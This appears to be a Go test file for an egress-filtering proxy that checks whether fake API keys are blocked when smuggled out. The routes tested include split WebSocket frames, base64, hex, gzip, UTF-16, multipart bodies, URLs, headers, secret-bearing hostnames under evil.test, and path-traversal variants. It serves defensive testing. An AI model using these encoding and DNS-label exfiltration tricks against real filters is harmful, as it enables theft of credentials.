package daemon

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"net/http"
	"strings"
	"time"

	"github.com/coder/websocket"
)

// leaked is what must not leave: a key of a form that is known.
const leaked = "sk-ant-api03-" + "Zk3vQ9xL2mT8rW5yB7nC4dF6gH1jK0pS-" + "aA3bB5cC7dD9eE1fF2gG4hH6iI8jJ0kK"

// leakedPart is enough of it to see that it did.
const leakedPart = "Zk3vQ9xL2mT8"

func webSockets() []attempt {
	// talk says each of texts in two frames, and reads what comes back.
	talk := func(in *inside, host string, kind websocket.MessageType, halves ...string) told {
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
		defer cancel()
		c, r, err := websocket.Dial(ctx, "https://"+host+"/socket?"+in.mark, &websocket.DialOptions{HTTPClient: &http.Client{Transport: in.client(false).Transport}, CompressionMode: websocket.CompressionContextTakeover})
		if r != nil && r.StatusCode != http.StatusSwitchingProtocols {
			return told{Status: r.StatusCode}
		}
		must(err)
		defer c.CloseNow()
		w, err := c.Writer(ctx, kind)
		must(err)
		for _, half := range halves {
			_, err = io.WriteString(w, half)
			must(err)
		}
		must(w.Close())
		_, b, err := c.Read(ctx)
		must(err)
		must(c.Close(websocket.StatusNormalClosure, ""))
		return told{Status: http.StatusSwitchingProtocols, Text: string(b)}
	}
	const row = "egress/socket.test"
	return []attempt{
		{name: "allowed: an ordinary message, with no compression beyond", status: 101, arrives: true, entries: []string{row}, after: "extensions=;", do: func(in *inside) told { return talk(in, "socket.test", websocket.MessageText, "words ", "of "+in.mark) }},
		{name: "a secret over two frames", status: 101, arrives: true, entries: []string{row}, never: leakedPart, do: func(in *inside) told {
			return talk(in, "socket.test", websocket.MessageText, `{"`+in.mark+`":"`+leaked[:20], leaked[20:]+`"}`)
		}},
		{name: "bytes", arrives: true, entries: []string{row + blockedEntry}, never: "binary-" + leakedPart, do: func(in *inside) told {
			return talk(in, "socket.test", websocket.MessageBinary, strings.Repeat("\x00\x01\x02\xfe\x80\x07", 500), "binary-"+leaked)
		}},
		refusedBy(403, "egress/good.test"+blockedEntry, "where it is not listed", func(in *inside) told { return talk(in, "good.test", websocket.MessageText, in.mark) }),
	}
}

func ownAccount() []attempt {
	ask := func(fields ...string) func(*inside) told {
		return func(in *inside) told {
			got := in.say(in.straight("own.test:443", "own.test"), in.get("own.test", fields...))
			if strings.Contains(got.Text, tenantsOwn) {
				return told{Err: "the credential came back"}
			}
			return got
		}
	}
	var out []attempt
	for _, field := range []string{"Authorization: Bearer ", "X-Api-Key: ", "Cookie: sid=", "Private-Token: ", "X-Auth-Token: ", "X-Amz-Security-Token: ", "Proxy-Authorization: Basic ", "X-Goog-Api-Key: "} {
		// The request goes on, under the tenant's account and no other.
		own := "attackers-own-" + fmt.Sprint(len(field))
		out = append(out, attempt{name: field, status: 200, arrives: true, entries: []string{"egress/own.test"}, never: own, after: "X-Api-Key: " + tenantsOwn, do: ask(field + own + "\r\n")})
	}
	narrow := func(method, path string) func(*inside) told {
		return func(in *inside) told {
			return in.say(in.straight("narrow.test:443", "narrow.test"), method+" "+path+in.mark+" HTTP/1.1\r\nHost: narrow.test\r\nContent-Length: 0\r\n\r\n")
		}
	}
	out = append(out, twin("egress/narrow.test", "a listed path", narrow("GET", "/v1/")))
	for _, c := range [][2]string{{"POST", "/v1/"}, {"GET", "/v2/"}, {"GET", "/v1/../v2/"}, {"GET", "/v1/%2e%2e/v2/"}, {"GET", "/v1/..%2fv2/"}, {"GET", "//v1/"}, {"GET", "/V1/"}} {
		out = append(out, refusedBy(403, "egress/narrow.test"+blockedEntry, c[0]+" "+c[1], narrow(c[0], c[1])))
	}
	return out
}

// tenantsOwn is the credential of the row own.test.
const tenantsOwn = "the-tenants-own-credential-4711"

// zipped is text, compressed.
func zipped(text string) string {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	io.WriteString(w, text)
	w.Close()
	return b.String()
}

// body is a POST whose body may arrive, but not as it is.
func body(name, kind, text, never string, fields ...string) attempt {
	return attempt{name: name, status: 200, arrives: true, never: never, entries: []string{"egress/good.test"}, do: func(in *inside) told {
		return in.say(in.tunnel("good.test:443", "good.test"), in.post("good.test", kind, text, fields...))
	}}
}

func encodings() []attempt {
	wide := func(s string) string {
		out := []byte{0xff, 0xfe}
		for _, c := range []byte(s) {
			out = append(out, c, 0)
		}
		return string(out)
	}
	once := base64.StdEncoding.EncodeToString([]byte("key=" + leaked))
	escaped := strings.ReplaceAll(leaked, "a", `\u0061`)
	const edge = "edge"
	form := "--" + edge + "\r\nContent-Disposition: form-data; name=\"file\"; filename=\"" + leaked + ".txt\"\r\n\r\nthe key is " + leaked + "\r\n--" + edge + "--\r\n"
	out := []attempt{
		body("allowed: ordinary words", "text/plain", "some ordinary words", leakedPart),
		body("text", "text/plain", "the key is "+leaked, leakedPart),
		body("JSON", "application/json", `{"a":"`+leaked+`"}`, leakedPart),
		body("JSON key", "application/json", `{"`+leaked+`":1}`, leakedPart),
		body("JSON escapes", "application/json", `{"a":"`+escaped+`"}`, escaped),
		body("base64 in JSON", "application/json", `{"a":"`+once+`"}`, once[8:24]),
		body("hex in JSON", "application/json", `{"a":"`+hex.EncodeToString([]byte(leaked))+`"}`, hex.EncodeToString([]byte(leaked))),
		body("gzip", "application/json", zipped(`{"a":"`+leaked+`"}`), zipped(`{"a":"`+leaked+`"}`), "Content-Encoding: gzip\r\n"),
		body("form", "application/x-www-form-urlencoded", "a="+strings.ReplaceAll(leaked, "-", "%2D"), leakedPart),
		body("multipart", "multipart/form-data; boundary="+edge, form, leakedPart),
		body("UTF-16", "text/plain; charset=utf-16", wide("the key is "+leaked), wide(leaked)[2:40]),
	}
	for name, do := range map[string]func(in *inside) string{
		"in the path": func(in *inside) string {
			return "GET /" + in.mark + "/" + leaked + " HTTP/1.1\r\nHost: good.test\r\n\r\n"
		},
		"in the query": func(in *inside) string {
			return "GET /" + in.mark + "?k=" + leaked + " HTTP/1.1\r\nHost: good.test\r\n\r\n"
		},
		"in a field":    func(in *inside) string { return in.get("good.test", "X-Note: "+leaked+"\r\n") },
		"in a referrer": func(in *inside) string { return in.get("good.test", "Referer: https://u:"+leaked+"@x.test/\r\n") },
	} {
		out = append(out, attempt{name: name, status: 200, arrives: true, never: leakedPart, entries: []string{"egress/good.test"}, do: func(in *inside) told {
			return in.say(in.tunnel("good.test:443", "good.test"), do(in))
		}})
	}
	return out
}

func secretNames() []attempt {
	label := strings.ToLower("ghp_" + "x7Qm2Lk9Rt4Vb8Nc3Wz6Yp1Hs5Jd0Fg2Aa9B")
	under := func(label, host string) func(*inside) told {
		return func(in *inside) told {
			return in.say(in.tunnel(label+host+":443", label+host), in.get(label+host))
		}
	}
	out := []attempt{
		byName("ordinary.wild.test", "egress/*.wild.test"),
		refusedBy(403, "egress/[secret redacted].evil.test"+blockedEntry, "under a host that is not listed", func(in *inside) told { return in.throughTo(label + ".evil.test:443") }),
	}
	for _, l := range []string{label, strings.ToLower("AKIA" + "QYLPMN5HHHFPZAM2"), "glpat-" + "x7qm2lk9rt4vb8nc3wz6"} {
		a := refusedBy(403, "egress/*.wild.test"+blockedEntry, "under a listed one: "+l, under(l, ".wild.test"))
		a.never = l
		out = append(out, a)
	}
	return out
}

func slowDrip() []attempt {
	drip := func(in *inside) told {
		return in.say(in.straight("drip.test:443", "drip.test"), in.post("drip.test", "text/plain", strings.Repeat("words ", 50)))
	}
	quick := func(in *inside) told {
		return in.say(in.straight("rate.test:443", "rate.test"), in.get("rate.test"))
	}
	var out []attempt
	for range 3 {
		out = append(out, twin("egress/drip.test", "within the budget", drip), twin("egress/rate.test", "within the rate", quick))
	}
	return append(out, refusedBy(402, "egress/drip.test BudgetExceededError", "beyond the budget", drip), refusedBy(429, "egress/rate.test RateLimitError", "beyond the rate", quick))
}

func blinding() []attempt {
	refused := func(name, kind, text, entry string, status int, fields ...string) attempt {
		a := body(name, kind, text, leakedPart, fields...)
		a.arrives, a.status, a.entries = false, status, []string{"egress/good.test" + entry}
		return a
	}
	zstd := "\x28\xb5\x2f\xfd\x20\x05\x29\x00\x00hello"
	return []attempt{
		body("allowed: ordinary words", "text/plain", "some ordinary words", leakedPart),
		body("bytes that are no UTF-8", "text/plain", "before \xff\xfe "+leaked+" \xff after", leakedPart),
		refused("an encoding that is not known", "text/plain", leaked, malformedEntry, 400, "Content-Encoding: lzma\r\n"),
		refused("an encoding that it is not", "text/plain", leaked, malformedEntry, 400, "Content-Encoding: gzip\r\n"),
		refused("cut short", "text/plain", zipped(strings.Repeat(leaked, 9))[:40], malformedEntry, 400, "Content-Encoding: gzip\r\n"),
		refused("four encodings", "text/plain", leaked, malformedEntry, 400, "Content-Encoding: gzip, gzip, gzip, gzip\r\n"),
		refused("bytes that are no text", "application/octet-stream", strings.Repeat("\x00\x01\x02\xfe\x80\x07", 500)+leaked, blockedEntry, 403),
		refused("an encoding that is not said", "", zstd+leaked, blockedEntry, 403),
		refused("an encrypted archive", "", "Salted__12345678abcdefgh"+leaked, blockedEntry, 403),
	}
}
